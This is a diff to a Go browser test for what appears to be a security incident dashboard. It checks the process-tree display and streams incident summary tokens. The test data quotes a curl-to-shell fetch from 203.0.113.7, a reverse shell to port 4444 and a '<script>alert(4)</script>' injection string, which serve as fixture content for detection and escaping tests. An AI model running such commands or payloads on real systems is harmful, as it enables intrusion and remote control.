@@ -133,6 +133,12 @@ func TestBrowser(t *testing.T) {
 	b.Screenshot("incidents")
 	b.Click(`#incidents tr[data-id="inc-1"] a`)
 	b.WaitText("#sec-process_tree", "curl -s http://203.0.113.7/x", 5*time.Second)
+	// A command run through a subshell hangs under the shell that forked it.
+	if under := browsertest.Eval[string](b, `(() => { const v = document.querySelector("#sec-process_tree .via");
+		if (!v) return "no via"; const li = v.closest("li").parentElement.closest("li");
+		return v.textContent + " under " + (li ? li.querySelector(".pid").textContent : "nothing"); })()`); under != " via subshell 4255 under 4242" {
+		t.Errorf("subshell child: %q", under)
+	}
 	b.WaitText("#sec-connections", "203.0.113.7:4444", 5*time.Second)
 	for _, tok := range []string{"nginx worker 4100 spawned ", "`sh -c 'curl … | sh'`, ", "which fetched a script <script>alert(4)</script> and opened a reverse shell to 203.0.113.7:4444."} {
 		s.Hub().Publish("summary_token", SummaryToken{IncidentID: "inc-1", Text: tok})
